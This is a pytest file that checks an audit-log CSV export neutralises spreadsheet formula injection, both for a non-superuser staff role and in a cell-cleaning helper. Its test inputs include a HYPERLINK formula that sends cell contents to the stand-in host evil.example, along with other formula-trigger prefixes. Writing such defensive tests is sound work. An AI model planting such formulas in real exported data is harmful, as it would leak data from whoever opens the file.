"""The audit CSV never hands a spreadsheet a live formula (issue 23): a product named
`=HYPERLINK(...)` in Bling is exported as text. Exported by a non-superuser staff user of
the operação role (who may export the audit log)."""

from __future__ import annotations

import csv
import io

import pytest

from blingsync.admin.spreadsheet_cells import spreadsheet_cell_neutralise
from blingsync.audit import audit_record
from blingsync.models import AuditLog

pytestmark = pytest.mark.django_db

EXPORT_URL = "/admin/blingsync/auditlog/export-csv/"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"clique")',
    "+55 11 9999-0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_exported_as_text(role_client, value):
    audit_record(
        action=AuditLog.Action.CODE_ASSIGNED,
        bling_product_id=111,
        code="TEMO00001",
        product_name=value,
        reason="regra Teclado Mouse",
        source=AuditLog.Source.WEBHOOK,
    )
    response = role_client("operacao").get(EXPORT_URL)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
    header, row = list(csv.reader(io.StringIO(body), delimiter=";"))
    exported = dict(zip(header, row, strict=True))

    assert exported["produto"] == "'" + value
    assert exported["código"] == "TEMO00001"  # ordinary text untouched
    assert exported["id do produto no Bling"] == "111"


@pytest.mark.parametrize(
    "value,expected",
    [("Memória 8GB", "Memória 8GB"), ("", ""), (-3, -3), (111, 111), ("a=b", "a=b")],
)
def test_ordinary_cells_are_left_as_they_are(value, expected):
    assert spreadsheet_cell_neutralise(value) == expected
